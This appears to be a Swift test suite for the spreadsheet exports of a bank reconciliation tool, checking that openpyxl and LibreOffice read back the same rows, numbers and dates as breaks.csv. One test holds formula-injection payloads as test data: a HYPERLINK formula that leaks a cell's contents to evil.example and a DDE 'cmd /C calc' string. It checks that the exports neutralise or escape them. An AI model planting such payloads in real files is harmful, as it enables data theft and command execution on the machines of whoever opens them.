import Foundation
import ReconCore
import ReconReport
import ReconTestSupport
import Testing

/// `breaks.xlsx` and `breaks-excel.csv` read back by programs that are not Recon: openpyxl and
/// LibreOffice. They must find what `breaks.csv` says, cell for cell, with numbers as numbers and
/// dates as dates, and text from bank files must stay text.
@Suite struct SpreadsheetExportTests {
    /// A run over generated data (every kind the generator makes), with `flags`.
    static func generatedRun(_ name: String, _ flags: [String]) throws -> String {
        let dir = try ReconProcess.temporaryDirectory(name)
        let gen = try ReconProcess.run(["gen", "--rows", "3000", "--seed", "11", "--out", dir + "/data"])
        try #require(gen.status == 0, "\(gen.stderr)")
        let run = try ReconProcess.run(["run", "--bank", dir + "/data/bank.csv", "--ledger", dir + "/data/ledger.csv", "--out", dir + "/out",
                                        "--mask-key", dir + "/mask.key"] + flags)
        try #require(run.status == 0 || run.status == 1, "\(run.stderr)")
        return dir + "/out"
    }

    /// Checks one row of a kind's sheet against its `breaks.csv` row.
    static func expectRow(_ cells: [ExportReading.Cell], equals want: [String], sheet: String) {
        let exponent = Currency.exponent(ofCode: Array(want[3].utf8))
        for (i, w) in want.enumerated() {
            let c = cells[i], column = BreakLineCodec.columns[i]
            if w.isEmpty {
                #expect(c.type == "-", "\(sheet) \(column): empty in breaks.csv, \(c) in the workbook")
                continue
            }
            switch i {
            case 8, 9, 10:
                let expected = ReportDigestMinor.parse(w, exponent)
                #expect(c.type == "n", "\(sheet) \(column) \(w) is a number")
                #expect(c.value.flatMap { ExportReading.minor($0, exponent: exponent) } == expected, "\(sheet) \(column): \(w) vs \(c)")
                let decimals = exponent > 0 ? "." + String(repeating: "0", count: exponent) : ""
                #expect(c.numberFormat == "#,##0\(decimals);-#,##0\(decimals)", "\(want[3]) shows \(exponent) decimals")
            case 6, 7:
                #expect(c.type == "d" && c.value == w, "\(sheet) \(column): \(w) vs \(c)")
            case 11:
                #expect(c.type == "n" && c.value.flatMap { Double($0) }.map { Int($0) } == Int(w), "\(sheet) age_days: \(w) vs \(c)")
            default:
                #expect(c.type == "s" && c.value == w, "\(sheet) \(column): \(w) vs \(c)")
            }
        }
    }

    @Test(.enabled(if: ExternalTool.available(ExternalTool.python), "needs Python with openpyxl (python3-openpyxl)"))
    func openpyxlFindsTheRowsNumbersAndDatesOfBreaksCSVOnASheetPerKind() throws {
        let out = try Self.generatedRun("xlsx", ["--xlsx", "--unmasked"])
        let breaks = try ExportReading.breaks(out + "/breaks.csv")
        let byKind = ExportReading.byKind(breaks)
        #expect(byKind.count >= 5, "the generated data gives several kinds")
        let sheets = try ExportReading.openpyxl(out + "/breaks.xlsx")
        try #require(sheets.first?.name == "Summary")
        #expect(Set(sheets.dropFirst().map(\.name)) == Set(byKind.keys), "one sheet per kind that occurs")
        var written = 0
        for sheet in sheets.dropFirst() {
            let expected = byKind[sheet.name] ?? []
            #expect(sheet.frozen == "A2", "\(sheet.name): header row frozen")
            #expect(sheet.autofilter == "A1:M\(expected.count + 1)", "\(sheet.name): autofilter over the rows")
            #expect(sheet.widths["M"] ?? 0 > 50, "\(sheet.name): the detail column is wide")
            #expect(sheet.rows.first?.map(\.value) == BreakLineCodec.columns)
            try #require(sheet.rows.count == expected.count + 1, "\(sheet.name): \(sheet.rows.count - 1) rows, breaks.csv has \(expected.count)")
            for (row, want) in zip(sheet.rows.dropFirst(), expected) { Self.expectRow(row, equals: want, sheet: sheet.name) }
            written += expected.count
        }
        #expect(written == breaks.count)

        // The Summary sheet's counts are summary.json's.
        let summary = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: URL(fileURLWithPath: out + "/summary.json"))) as? [String: Any])
        let kinds = summary["kinds"] as! [String: [String: Any]]
        let rows = sheets[0].rows.map { $0.map { $0.value ?? "" } }
        #expect(rows.contains { $0[0] == "breaks" && $0[1] == "\(breaks.count)" })
        let kindsAt = try #require(rows.firstIndex { $0[0] == "Breaks by kind" })
        for (kind, list) in byKind {
            let count = kinds[kind]!["count"] as! Int
            #expect(count == list.count)
            #expect(rows[(kindsAt + 2)...].contains { $0[0] == kind && $0[2] == "\(count)" }, "Summary counts \(count) \(kind)")
        }
        let inputs = summary["inputs"] as! [[String: Any]]
        for i in inputs { #expect(rows.contains { $0.contains(i["sha256"] as! String) }, "Summary names each input's SHA-256") }
    }

    @Test(.enabled(if: ExternalTool.available(ExternalTool.soffice), "needs LibreOffice (libreoffice-calc-nogui)"))
    func libreOfficeConvertsTheWorkbookBackToTheRowsOfBreaksCSV() throws {
        let out = try Self.generatedRun("lo", ["--xlsx", "--unmasked"])
        let byKind = ExportReading.byKind(try ExportReading.breaks(out + "/breaks.csv"))
        let sheets = try ExportReading.libreOffice(out + "/breaks.xlsx")
        #expect(Set(sheets.keys) == Set(byKind.keys).union(["Summary"]))
        for (kind, expected) in byKind {
            let rows = try #require(sheets[kind])
            #expect(rows.first == BreakLineCodec.columns)
            try #require(rows.count == expected.count + 1, "\(kind): \(rows.count - 1) rows, breaks.csv has \(expected.count)")
            for (got, want) in zip(rows.dropFirst(), expected) {
                let exponent = Currency.exponent(ofCode: Array(want[3].utf8))
                for i in 0..<want.count {
                    if [8, 9, 10].contains(i) && !want[i].isEmpty {
                        #expect(ExportReading.minor(got[i], exponent: exponent) == ReportDigestMinor.parse(want[i], exponent),
                                "\(kind) \(BreakLineCodec.columns[i]): \(want[i]) vs \(got[i])")
                    } else {
                        #expect(got[i] == want[i], "\(kind) \(BreakLineCodec.columns[i]): \(want[i]) vs \(got[i])")
                    }
                }
            }
        }
    }

    @Test(.enabled(if: ExternalTool.available(ExternalTool.python), "needs Python with openpyxl (python3-openpyxl)"))
    func aKindWithMoreRowsThanASheetHoldsContinuesOnNumberedSheets() throws {
        let dir = try ReconProcess.temporaryDirectory("split")
        func row(_ kind: String, _ severity: String, _ i: Int) throws -> BreakLine {
            try BreakLineCodec.decode([kind, severity, "ACC\(i % 7)", "CNY", "B\(i)", "", "2026-11-0\(1 + i % 9)", "", "\(i).25", "", "", "\(i % 9)", "row \(i)"],
                                      path: "test", line: i + 2)
        }
        let rows = try (0..<3).map { try row("unmatched_bank_debit", "critical", $0) } + (0..<250).map { try row("unmatched_bank_credit", "medium", $0) }
        let run = ReportRun(label: "test", date: "2026-11-10", reconVersion: ReconVersion.current, exitCode: 1, breaks: rows.count,
                            inputs: [], controlTotals: nil)
        var request = ExportRequest(title: "split", source: .lines(rows), runs: [run], formats: [.xlsx], directory: dir)
        request.sheetRowLimit = 101
        request.masked = false
        try ReportExporter.export(request)
        let sheets = try ExportReading.openpyxl(dir + "/breaks.xlsx")
        #expect(sheets.map(\.name) == ["Summary", "unmatched_bank_debit", "unmatched_bank_credit", "unmatched_bank_credit (2)", "unmatched_bank_credit (3)"])
        #expect(sheets.dropFirst().map { $0.rows.count } == [4, 101, 101, 51], "each sheet holds at most 101 rows with its header")
        #expect(sheets.dropFirst(2).map(\.autofilter) == ["A1:M101", "A1:M101", "A1:M51"])
        let refs = sheets.dropFirst(2).flatMap { $0.rows.dropFirst().map { $0[4].value! } }
        #expect(refs == (0..<250).map { "B\($0)" }, "the rows continue in order")
    }

    @Test(.enabled(if: ExternalTool.available(ExternalTool.python), "needs Python with openpyxl (python3-openpyxl)"))
    func formulaLikeTextFromBankFilesArrivesAsTextInTheWorkbookAndTheExcelCSV() throws {
        let dir = try ReconProcess.temporaryDirectory("inject")
        let hostile = ["=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Refund\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+49 30 1234", "-2+3",
                       "\tTAB", "=1+1"]
        func quoted(_ s: String) -> String { "\"" + s.replacingOccurrences(of: "\"", with: "\"\"") + "\"" }
        var bank = "bank_ref,account,booking_date,value_date,amount,currency,end_to_end_id,counterparty,description\n"
        for (i, h) in hostile.dropLast().enumerated() {
            bank += "\(quoted(h)),ACC1,2026-11-0\(i + 1),,\(i % 2 == 0 ? "-" : "")1\(i).00,CNY,,\(quoted(h)),\(quoted(h))\n"
        }
        var ledger = "txn_id,account,value_date,amount,currency,type,reference,batch_id,counterparty\n"
        ledger += "\(quoted(hostile.last!)),ACC1,2026-11-01,99.00,CNY,deposit,R9,,\n"
        try bank.write(toFile: dir + "/bank.csv", atomically: true, encoding: .utf8)
        try ledger.write(toFile: dir + "/ledger.csv", atomically: true, encoding: .utf8)
        let run = try ReconProcess.run(["run", "--bank", dir + "/bank.csv", "--ledger", dir + "/ledger.csv", "--out", dir + "/out",
                                        "--as-of", "2026-11-20", "--xlsx", "--excel-csv", "--jsonl", "--html", "--mask-key", dir + "/mask.key"])
        try #require(run.status == 1, "\(run.stderr)")
        let breaks = try ExportReading.breaks(dir + "/out/breaks.csv")
        let refs = Set(breaks.map { $0[4].isEmpty ? $0[5] : $0[4] })
        #expect(refs == Set(hostile), "every hostile reference is a break")

        // The workbook: each is a string cell holding the text exactly.
        let cells = try ExportReading.openpyxl(dir + "/out/breaks.xlsx").dropFirst().flatMap { $0.rows.dropFirst() }
        for h in hostile {
            let cell = cells.map { $0[4].type == "-" ? $0[5] : $0[4] }.first { $0.value == h }
            #expect(cell?.type == "s", "\(h) is text in the workbook")
        }
        // The Excel CSV: BOM, CRLF, each neutralised with a leading apostrophe; amounts stay numbers.
        let data = try Data(contentsOf: URL(fileURLWithPath: dir + "/out/breaks-excel.csv"))
        #expect(Array(data.prefix(3)) == [0xEF, 0xBB, 0xBF])
        let text = String(decoding: data.dropFirst(3), as: UTF8.self)
        #expect(text.hasSuffix("\r\n") && text.components(separatedBy: "\n").dropLast().allSatisfy { $0.hasSuffix("\r") }, "CRLF line ends")
        let records = try CSVTable.records(path: dir + "/out/breaks-excel.csv")
        #expect(records.count == breaks.count + 1)
        for (excel, plain) in zip(records.dropFirst(), breaks) {
            for (i, value) in plain.enumerated() {
                let first = value.unicodeScalars.first
                let isFormula = first.map { "=+-@\t\r".unicodeScalars.contains($0) } ?? false
                if i == 2 {
                    #expect(excel[i].hasPrefix("****#") && excel[i] != value, "the account is masked by default")
                } else if isFormula && !([8, 9, 10].contains(i)) {
                    #expect(excel[i] == "'" + value, "\(BreakLineCodec.columns[i]) \(value) is neutralised")
                } else {
                    #expect(excel[i] == value)
                }
            }
        }
        #expect(records.dropFirst().contains { $0[8].hasPrefix("-1") }, "a negative amount stays a number")
        // JSON lines keep the text as it came (for machines); the page escapes it.
        let jsonl = try String(contentsOfFile: dir + "/out/breaks.jsonl", encoding: .utf8)
        let refsInJSON = try jsonl.split(separator: "\n").map { line -> String in
            let o = try JSONSerialization.jsonObject(with: Data(line.utf8)) as! [String: Any]
            return (o["bank_ref"] as? String) ?? (o["ledger_id"] as! String)
        }
        #expect(Set(refsInJSON) == Set(hostile))
        let html = try String(contentsOfFile: dir + "/out/report.html", encoding: .utf8)
        #expect(!html.contains("=HYPERLINK(\"http"), "quotes are escaped in the page")
    }
}

/// Exact minor units of `breaks.csv`'s decimals.
enum ReportDigestMinor {
    static func parse(_ text: String, _ exponent: Int) -> Int64? {
        if case .success(let v) = MinorUnits.parse(text, exponent: exponent) { return v }
        return nil
    }
}
